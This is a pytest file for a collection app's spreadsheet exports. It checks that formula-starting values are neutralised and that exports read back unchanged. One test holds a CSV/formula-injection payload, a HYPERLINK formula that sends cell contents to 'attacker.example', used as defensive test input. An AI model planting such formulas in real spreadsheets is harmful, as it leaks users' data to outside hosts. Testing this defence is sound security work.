"""Writing exports and the template: formulas neutralised, and everything reads back."""

import datetime
import io

import openpyxl
import pytest
from django.utils import translation

from collection.spreadsheets.template import TEMPLATE_NAMES
from collection.spreadsheets.writing import neutralise, write_csv, write_template, write_xlsx
from tests.collection.spreadsheets.test_reading import read


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84 24 3825", "'+84 24 3825"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Hà Nội", "Hà Nội"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_prefixes_formula_starts(value, expected):
    assert neutralise(value) == expected


ROUND_TRIP = [
    ["1972.10", "=1+1", "+84 24 3825", "-", "@x", "Bộ đội vượt sông\nThạch Hãn", "18/12/1972"],
    ["0042", "It's fine", "", "1972", "'quoted'", "Chu Chí Thành (photographer); Lê Minh", ""],
    ["#N/A", "TRUE", "1e5", "#REF!", "3-12", "", "circa 1972"],
]


ROUND_TRIP_HEADERS = [
    "accession_number",
    "title_en",
    "credit_line",
    "medium",
    "rights",
    "description_vi",
    "date",
]


def test_csv_export_has_bom_crlf_and_neutralised_cells():
    buffer = io.BytesIO()
    write_csv(
        [["A1", '=HYPERLINK("x")', datetime.date(1972, 12, 18), None, 3.0]],
        buffer,
        headers=["accession_number", "title_en", "date", "rights", "medium"],
    )
    data = buffer.getvalue()
    assert data.startswith(b"\xef\xbb\xbfaccession_number,title_en,date,rights,medium\r\n")
    assert data.endswith(b'A1,"\'=HYPERLINK(""x"")",18/12/1972,,3\r\n')


def test_csv_export_imports_back_exactly():
    buffer = io.BytesIO()
    write_csv(ROUND_TRIP, buffer, headers=ROUND_TRIP_HEADERS)
    table = read(buffer.getvalue())
    assert [[row.values[name] for name in ROUND_TRIP_HEADERS] for row in table.rows] == ROUND_TRIP


def test_xlsx_export_imports_back_exactly():
    buffer = io.BytesIO()
    write_xlsx(ROUND_TRIP, buffer, headers=ROUND_TRIP_HEADERS)
    table = read(buffer.getvalue(), filename="export.xlsx")
    assert table.sheet_name == "Collection"
    assert [[row.values[name] for name in ROUND_TRIP_HEADERS] for row in table.rows] == ROUND_TRIP
    assert all(row.errors == [] for row in table.rows)


def test_xlsx_export_writes_text_never_formulas_and_accession_as_text_format():
    buffer = io.BytesIO()
    write_xlsx(
        [["1972.10", "=1+1", "x\x0by"]], buffer, headers=["accession_number", "title_en", "medium"]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["Collection"]
    accession, formula, control = sheet[2]
    assert (formula.data_type, formula.value) == ("s", "'=1+1")
    assert (accession.data_type, accession.value, accession.number_format) == ("s", "1972.10", "@")
    assert control.value == "xy"  # Word's vertical tab is illegal in XML
    assert sheet.column_dimensions["A"].number_format == "@"


@pytest.mark.parametrize("start", ["\x01", "\x00", "\x1f", "\x0b\x0c"])
def test_a_control_character_before_a_formula_does_not_make_it_live(start):
    """Control characters are removed before the text is neutralised: the other way
    round, "\x01=HYPERLINK(...)" was written as a live formula (issue 17, finding 4)."""
    hostile = f'{start}=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    rows = [["A.1", hostile, f"{start}+1", f"{start}@SUM(1)"]]
    headers = ["accession_number", "title_en", "medium", "rights"]
    xlsx, text = io.BytesIO(), io.BytesIO()

    write_xlsx(rows, xlsx, headers=headers, sheet_name="Errors", with_column_help=False)
    write_csv(rows, text, headers=headers)

    cells = openpyxl.load_workbook(io.BytesIO(xlsx.getvalue()))["Errors"][2][1:]
    assert [(cell.data_type, cell.value[:2]) for cell in cells] == [("s", "'=")] + [
        ("s", "'+"),
        ("s", "'@"),
    ]
    written = text.getvalue().decode("utf-8-sig").splitlines()[1]
    assert ",\"'=HYPERLINK(" in written
    assert ",'+1," in written
    assert start not in written
    # And both read back as what the cell shows, without the apostrophe.
    table = read(xlsx.getvalue(), filename="errors.xlsx")
    assert table.rows[0].values["title_en"] == hostile.lstrip(start)


def test_xlsx_template_has_headers_and_a_columns_help_sheet():
    buffer = io.BytesIO()
    write_template(buffer, format="xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert workbook.sheetnames == ["Collection", "Columns"]
    assert [cell.value for cell in workbook["Collection"][1]] == list(TEMPLATE_NAMES)
    assert workbook["Collection"].max_row == 1
    help_rows = list(workbook["Columns"].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in help_rows] == list(TEMPLATE_NAMES)
    assert all(row[1] and row[2] for row in help_rows)
    assert {row[0]: row[3] for row in help_rows}["creator"].startswith("Yes")


def test_templates_read_back_as_empty_tables_with_every_column():
    for format, filename in (("xlsx", "template.xlsx"), ("csv", "template.csv")):
        buffer = io.BytesIO()
        write_template(buffer, format=format)
        table = read(buffer.getvalue(), filename=filename)
        assert list(table.columns) == list(TEMPLATE_NAMES)
        assert (table.rows, table.header_errors, table.unknown_columns) == ([], [], [])


def test_the_columns_sheet_is_in_vietnamese_for_a_vietnamese_archivist():
    buffer = io.BytesIO()
    with translation.override("vi"):
        write_template(buffer, format="xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))

    help_rows = list(workbook["Columns"].iter_rows(values_only=True))
    assert help_rows[0] == ("Cột", "Cách ghi", "Ví dụ", "Nhiều giá trị?")
    assert {row[0]: row[3] for row in help_rows[1:]}["creator"].startswith("Có")
    # The headers are the template's names in every language: they are what is read.
    assert [cell.value for cell in workbook["Collection"][1]] == list(TEMPLATE_NAMES)
